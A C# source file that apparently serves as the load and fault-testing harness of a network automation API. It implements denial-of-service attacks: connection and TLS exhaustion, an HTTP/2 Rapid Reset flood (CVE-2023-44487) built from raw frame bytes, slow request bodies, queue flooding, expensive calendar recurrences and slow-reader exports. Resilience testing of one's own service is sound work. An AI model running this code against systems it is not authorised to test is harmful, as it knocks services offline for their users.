using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;

namespace NetAutomation.Faults;

/// <summary>One way in which a customer takes away what others need.</summary>
/// <param name="FromNetwork">What the generator does until its time is over; null where a block does it in its sandbox.</param>
internal sealed partial record Attack(string Name, Func<Target, CancellationToken, Task>? FromNetwork = null)
{
    private static readonly TimeSpan _beat = TimeSpan.FromMilliseconds(50);

    /// <summary>All of them, by name.</summary>
    public static IReadOnlyList<Attack> All { get; } =
    [
        new("raw", (target, until) => Hold(target, 1500, 15, target.Connect, until)),
        new("tls", (target, until) => Hold(target, 400, 2, async cancel => await target.Secure(false, cancel), until)),
        new("rapid-reset", (target, until) => Task.WhenAll(Reset(target, until), Reset(target, until))),
        new("slow-bodies", SlowBodies),
        new("queued-runs", QueueRuns),
        new("calendars", Calendars),
        new("exports", (target, until) => Hold(target, 20, 1, cancel => Export(target, cancel), until)),
        new("fork"), new("memory"), new("disk"), new("descriptors"), new("link"), new("events"),
    ];

    public static Attack Named(string name) =>
        All.FirstOrDefault(attack => attack.Name == name)
            ?? throw new ArgumentException($"'{name}' is not one of {string.Join(", ", All.Select(attack => attack.Name))}.", nameof(name));

    /// <summary>Opens so many connections each beat, and closes the oldest beyond the most.</summary>
    private static async Task Hold(
        Target target, int most, int each, Func<CancellationToken, Task<Stream>> open, CancellationToken until)
    {
        var held = new Queue<Stream>();
        try
        {
            while (!until.IsCancellationRequested)
            {
                foreach (var opening in Enumerable.Range(0, each).Select(_ => open(until)).ToList())
                {
                    try
                    {
                        held.Enqueue(await opening);
                        target.Count("opened");
                    }
                    catch (Exception refused) when (Target.IsRefusal(refused))
                    {
                        target.Count("refused");
                    }
                }

                while (held.Count > most)
                {
                    await held.Dequeue().DisposeAsync();
                    target.Count("replaced");
                }

                await Pause(_beat, until);
            }
        }
        finally
        {
            foreach (var stream in held)
            {
                await stream.DisposeAsync();
            }
        }
    }

    /// <summary>HTTP/2 streams that are cancelled as soon as they are opened (CVE-2023-44487).</summary>
    private static async Task Reset(Target target, CancellationToken until)
    {
        while (!until.IsCancellationRequested)
        {
            try
            {
                await using var stream = await target.Secure(true, until);
                await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\u0004\0\0\0\0\0"u8.ToArray(), until);
                var id = 1;
                while (true)
                {
                    // GET / by indexes of HPACK's static table, then RST_STREAM with CANCEL.
                    byte[] number = [(byte)(id >> 24), (byte)(id >> 16), (byte)(id >> 8), (byte)id];
                    byte[] both = [0, 0, 3, 1, 5, .. number, 0x82, 0x84, 0x87, 0, 0, 4, 3, 0, .. number, 0, 0, 0, 8];
                    await stream.WriteAsync(both, until);
                    target.Count("reset");
                    id += 2;
                    if (id % 100 == 1)
                    {
                        await Pause(_beat, until);
                    }
                }
            }
            catch (Exception refused) when (Target.IsRefusal(refused))
            {
                target.Count("refused");
                await Pause(_beat, until);
            }
        }
    }

    private static async Task SlowBodies(Target target, CancellationToken until)
    {
        var slow = new List<Task>();
        while (slow.Count < 150 && !until.IsCancellationRequested)
        {
            slow.Add(Slow());
            await Pause(_beat, until);
        }

        await Task.WhenAll(slow);

        async Task Slow()
        {
            while (!until.IsCancellationRequested)
            {
                try
                {
                    await using var stream = await target.Secure(false, until);
                    await stream.WriteAsync(Encoding.ASCII.GetBytes(target.Head("POST", "/v1/runs", 100_000)), until);
                    while (true)
                    {
                        await stream.WriteAsync("{"u8.ToArray(), until);
                        target.Count("bytes");
                        await Pause(TimeSpan.FromSeconds(1), until);
                    }
                }
                catch (Exception refused) when (Target.IsRefusal(refused))
                {
                    target.Count("refused");
                    await Pause(_beat, until);
                }
            }
        }
    }

    /// <summary>5,000 runs that nobody waits for, where the time suffices; checks cost nothing.</summary>
    private static Task QueueRuns(Target target, CancellationToken until)
    {
        const int most = 5000, callers = 2, batch = 25;
        return Task.WhenAll(Enumerable.Range(0, callers).Select(async _ =>
        {
            for (var queued = 0; queued < most / callers && !until.IsCancellationRequested; queued += batch)
            {
                var runs = Enumerable.Range(0, batch).Select(_ => (JsonNode)new JsonObject
                {
                    ["block"] = "static-routes", ["mode"] = "check", ["labels"] = new JsonObject { ["attack"] = "queued-runs" },
                    ["targets"] = new JsonObject { ["deviceIds"] = new JsonArray(target.Device) }, ["input"] = Route(),
                });
                var body = new JsonObject { ["runs"] = new JsonArray([.. runs]) };
                var (status, _) = await target.Ask("POST", "/v1/runs:batch", body, until);
                target.Count(status == 202 ? "queued" : status == 429 ? "limited" : "refused", batch);
                await Pause(_beat * 4, until);
            }
        }));
    }

    /// <summary>Recurrences that are dear to evaluate, asked for again and again by a caller who does not wait.</summary>
    private static async Task Calendars(Target target, CancellationToken until)
    {
        const string dear = "DTSTART:19710101T000000Z\nRRULE:FREQ=YEARLY;COUNT=10000;BYSETPOS=1;BYHOUR=";
        var hours = string.Join(',', Enumerable.Range(0, 24));
        var rule = $"{dear}{hours};BYMINUTE={string.Join(',', Enumerable.Range(0, 60))}";
        foreach (var name in new[] { "one", "two" })
        {
            var (made, _) = await target.Ask("POST", "/v1/windows", new JsonObject
            {
                ["name"] = $"abuse-{name}-{Guid.NewGuid():n}", ["kind"] = "allow", ["rrule"] = rule, ["duration"] = "PT1M",
                ["timeZone"] = "UTC",
            }, until);
            target.Count($"window {made}");
        }

        var (status, schedule) = await target.Ask("POST", "/v1/schedules", new JsonObject
        {
            ["name"] = $"abuse-{Guid.NewGuid():n}", ["rrule"] = rule, ["timeZone"] = "UTC",
            ["run"] = new JsonObject
            {
                ["block"] = "static-routes", ["mode"] = "check", ["targets"] = new JsonObject { ["all"] = true },
                ["input"] = Route(),
            },
        }, until);
        target.Count($"schedule {status}");
        var id = Ids().Match(schedule) is { Success: true } found ? found.Groups["id"].Value : "sch_00000000000000000000000000";
        await Task.WhenAll(Enumerable.Range(0, 4).Select(async _ =>
        {
            while (!until.IsCancellationRequested)
            {
                using var impatient = CancellationTokenSource.CreateLinkedTokenSource(until);
                impatient.CancelAfter(TimeSpan.FromSeconds(2));
                var (answer, _) = await target.Ask("GET", $"/v1/schedules/{id}/preview?n=100", null, impatient.Token);
                target.Count($"preview {answer}");
                await Pause(_beat * 4, until);
            }
        }));
    }

    /// <summary>An export whose reader takes nothing.</summary>
    private static async Task<Stream> Export(Target target, CancellationToken cancel)
    {
        var stream = await target.Secure(false, cancel, receiveBuffer: 2048);
        await stream.WriteAsync(Encoding.ASCII.GetBytes(target.Head("GET", "/v1/export", null)), cancel);
        return stream;
    }

    private static JsonObject Route() => new()
    {
        ["routes"] = new JsonArray(new JsonObject { ["prefix"] = "10.9.0.0/16", ["nextHop"] = "192.0.2.1" }),
    };

    private static async Task Pause(TimeSpan time, CancellationToken until)
    {
        try
        {
            await Task.Delay(time, until);
        }
        catch (OperationCanceledException)
        {
            // The time is over: the caller's loop sees it.
        }
    }

    [GeneratedRegex("\"id\":\"(?<id>[a-z]{3}_[0-9a-z]+)\"", RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex Ids();
}
